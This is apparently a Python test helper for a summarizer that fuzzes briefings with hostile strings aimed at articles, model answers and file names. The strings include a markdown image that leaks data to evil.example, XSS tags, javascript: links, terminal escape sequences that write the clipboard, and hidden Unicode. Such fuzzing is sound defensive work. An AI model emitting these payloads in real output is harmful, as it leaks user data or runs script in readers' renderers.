"""Strings that an attacker would put into an article, a model's answer or a file name; and briefings full of one."""

from collections.abc import Callable
from typing import Any

from hypothesis import strategies as st

from summarizer.briefing import Briefing

PAYLOADS = (
    "![pixel](https://evil.example/p.png?d=secret)",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[a][b]\n\n[b]: https://evil.example",
    "[2:14]: https://evil.example",
    "![a][2:14]",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- hidden",
    "</td></table><a href=//evil.example>x</a>",
    "<https://evil.example>",
    "<me@evil.example>",
    "https://evil.example/a?b=c",
    "HTTP://EVIL.EXAMPLE",
    "www.evil.example",
    "evil.com and evil.org/path",
    "//evil.example",
    "me@evil.example",
    "mailto:me@evil.example",
    "xmpp:me@evil.example/x",
    "ftp://evil.example",
    "&lt;b&gt; &#x3c;b&#62; &amp;",
    "`code` and ``more``",
    "```\nfence",
    "~~~\nfence",
    "~~gone~~ ~gone~",
    "**bold** __bold__ *it* _it_",
    "| a | b |\n| --- | --- |\n| c | d |",
    "a | b",
    "\\| \\\\| \\",
    "# heading",
    "heading\n===",
    "heading\n---",
    "> quoted",
    "- entry",
    "+ entry",
    "* entry",
    "1. entry",
    "12) entry",
    "    code by indentation",
    "\tcode by tab",
    "---",
    "line\n\n\nline",
    "line\r\nline\x0bline\x0cline\x85line\u2028line\u2029line",
    "broken  \nline\\\nline",
    "\x1b[2J\x1b]52;c;aGk=\x07\x1b[31mred",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mC1 \x90q\x9c",
    "\x00\x08\x7f",
    "a\u202eb\u2066c\u200bd\u00ade\ufefff",
    "\U000e0049\U000e0067\U000e006e",
    "half a pair \ud800 of surrogates",
    "[bold]rich[/bold] [link=https://evil.example]markup[/link]",
    "{{ 7*7 }} {% raw %} ${HOME} $x$ $$y$$",
    "{#id .class} {: onclick=x }",
    "[^1] [^1]: note",
    "- [ ] task",
    "!",
    "!\n",
    "[",
    "]",
    "@everyone #1 GH-1",
    "日本語の本文。次の文。",
    "e\u0301\u0323 👩\u200d💻",
    "a" * 500,
    "https://" + "a" * 300 + ".example",
)

# Pieces that mean something to some renderer; strings of them find what no list of known attacks has.
_PIECES = (
    *"\\`*_[]<>|~#{}()!&;:.@/$^=+-\"' \n\t\r",
    *("a", "B", "7", "é", "日", "www.", "http:", "https://", "evil.com", "me@", "mailto:", "&lt;", "&#60;"),
    *("![", "](", "]:", "[2:14]", "<b>", "<!--", "-->", "```", "~~", "**", "__", "1.", "1)", "---", "==="),
    *("\x1b[2J", "\x9b", "\x00", "\u202e", "\u200b", "\u2028", "\xa0", "“", "”", "  \n", "\n\n"),
)
TEXT = st.one_of(
    st.lists(st.sampled_from(_PIECES), max_size=12).map("".join),
    st.text(max_size=40),
    st.sampled_from(PAYLOADS),
)

# Fields that hold no free text: enumerations, numbers that point to something, names that are never shown.
_FIXED = frozenset(
    "format id article points point kind relation verdict speaker_verdict certainty importance bound direction "
    "precision start end published day list change article".split()
)


def filled(briefing: Briefing, change: Callable[[str], str]) -> Briefing:
    """The briefing with every free text, titles, names, paths and addresses included, put through `change`."""
    return Briefing.model_validate(_changed(briefing.model_dump(), change))


def _changed(value: Any, change: Callable[[str], str], name: str = "") -> Any:  # noqa: ANN401 - a document
    if isinstance(value, dict):
        return {key: each if key in _FIXED else _changed(each, change, key) for key, each in value.items()}
    if isinstance(value, tuple | list):
        return [_changed(each, change, name) for each in value]
    return change(value) if isinstance(value, str) else value
